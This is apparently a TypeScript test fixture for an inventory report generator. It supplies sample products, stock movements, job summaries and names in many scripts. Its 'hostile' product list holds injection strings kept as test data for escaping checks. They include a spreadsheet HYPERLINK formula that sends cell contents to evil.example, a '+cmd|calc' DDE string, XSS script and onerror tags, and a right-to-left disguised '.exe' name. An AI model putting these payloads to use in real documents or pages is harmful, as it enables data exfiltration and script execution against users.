import type { Services } from '../../../../src/adapters/handlers/index.js';
import { reportGeneration } from '../../../../src/adapters/handlers/reportGeneration/index.js';
import type { ArtifactStore } from '../../../../src/application/ports/artifacts.js';
import type { InventoryReader, Product, StockMovement } from '../../../../src/application/ports/inventory.js';
import type { JobSummary, OwnRecords } from '../../../../src/application/ports/ownRecords.js';
import { instant } from '../../../../src/domain/instant.js';
import type { JsonObject } from '../../../../src/domain/json.js';
import { begin } from '../../../application/opened.js';
import { type Given, runType, servicesIn } from '../opened.js';

/** Half past eight on 2 March 2026, UTC. */
const at = (hoursAgo: number) => instant(begin.getTime() - hoursAgo * 3_600_000);

export const product = (sku: string, given: Partial<Product> = {}): Product => ({
  sku,
  name: `Product ${sku}`,
  quantity: 10,
  reorderPoint: 5,
  category: 'Tools',
  location: 'Hall A',
  unitCost: 2.5,
  updatedAt: at(30),
  ...given,
});

/** Names that do harm where they are not taken for text. */
export const hostile = [
  product('=1+1', { name: '=HYPERLINK("http://evil.example/?"&A1,"click")', category: '@SUM(A1)', location: '-2+3' }),
  product('A&B', { name: '<script>alert(1)</script><img src=x onerror=alert(2)>', category: '"><b>x</b>', location: "' onmouseover='x" }),
  product('B', { name: '+cmd|calc\u0000\u001b[31m\u202Egpj.exe\ud800 _x0041_', category: '\tTab', location: '\rReturn' }),
];

/** One name for each script. */
export const scripts = {
  latin: 'Schraube für Dübel, Größe 8 – ﬂach',
  cyrillic: 'Болт оцинкованный',
  greek: 'Βίδα ανοξείδωτη',
  arabic: 'مفتاح ربط',
  hebrew: 'מברג פיליפס',
  chinese: '不锈钢螺栓',
  japanese: 'ステンレスボルト',
  korean: '스테인리스 볼트',
  vietnamese: 'Vít đầu lục giác',
} as const;

export const stock: readonly Product[] = [
  product('C-1', { name: 'Hammer', quantity: 4, reorderPoint: 6, unitCost: 12.5 }),
  product('C-2', { name: 'Saw', quantity: 0, reorderPoint: 2, unitCost: 20, category: 'Saws', location: 'Hall B' }),
  product('C-3', { name: 'Nails', quantity: 1_234.5, reorderPoint: 100, unitCost: 0.01, category: 'Fasteners' }),
  product('C-4', { name: 'Gift', quantity: 7, reorderPoint: null, unitCost: null, category: null, location: null }),
];

const movements: readonly StockMovement[] = [
  { sku: 'C-1', at: at(48), change: 10, quantityAfter: 14, reason: 'delivery', location: 'Hall A' },
  { sku: 'C-1', at: at(5), change: -10, quantityAfter: 4, reason: 'sale', location: 'Hall A' },
  { sku: 'C-2', at: at(3), change: -1, quantityAfter: 0, reason: 'sale', location: 'Hall B' },
];

const jobs: readonly JobSummary[] = [
  {
    ...{ jobName: 'nightly', jobType: 'sync', tags: ['stock'], status: 'scheduled' },
    days: [
      { day: '2026-01-01', completed: 90, failed: 9, cancelled: 0 },
      { day: '2026-03-01', completed: 9, failed: 1, cancelled: 0 },
    ],
    ...{ p50DurationMs: 950, p95DurationMs: 61_000, lastRunAt: at(1), nextRunAt: at(-23) },
  },
  {
    ...{ jobName: 'weekly', jobType: 'backup', tags: [], status: 'failed' },
    days: [{ day: '2026-03-01', completed: 0, failed: 3, cancelled: 1 }],
    ...{ p50DurationMs: null, p95DurationMs: null, lastRunAt: at(2), nextRunAt: null },
  },
];

async function* each<T>(items: Iterable<T>): AsyncGenerator<T> {
  yield* items;
}

type Stock = { readonly products?: Iterable<Product> | (() => AsyncIterable<Product>); readonly asked?: unknown[] };

/** What a report reads, from lists. */
const reader = ({ products = stock, asked = [] }: Stock): InventoryReader => ({
  products: (...call) => {
    asked.push(call);
    return typeof products === 'function' ? products() : each(products);
  },
  movements: (...call) => {
    asked.push(call);
    return each(movements);
  },
  find: async () => new Map(),
  list: async () => null,
});

export const open = (directory: string, given: Stock & { readonly instead?: Partial<Services> } = {}) => {
  const services = servicesIn(directory, [], {
    inventory: async () => reader(given) as Awaited<ReturnType<Services['inventory']>>,
    records: async () => ({ jobs: () => each(jobs) }) as unknown as OwnRecords,
    ...given.instead,
  });
  const type = reportGeneration(services);
  const run = async (parameters: JsonObject, more?: Given) =>
    (await runType(type, parameters, more)) as {
      readonly message: string;
      readonly artifactId: string;
      readonly name: string;
      readonly bytes: number;
      readonly sha256: string;
      readonly rows: number;
      readonly totals: { readonly [figure: string]: number | null };
      readonly mailed?: unknown;
    };
  const make = async (parameters: JsonObject, more?: Given) => {
    const result = await run(parameters, more);
    return { result, content: await contentOf(await services.artifacts(), result.artifactId) };
  };
  return { services, type, run, make };
};

export const contentOf = async (artifacts: ArtifactStore, artifactId: string): Promise<Buffer> => {
  const opened = await artifacts.open('default', artifactId);
  if (!opened) throw new Error(`there is no ${artifactId}`);
  const chunks: Uint8Array[] = [];
  for await (const chunk of opened.content) chunks.push(chunk);
  return Buffer.concat(chunks);
};
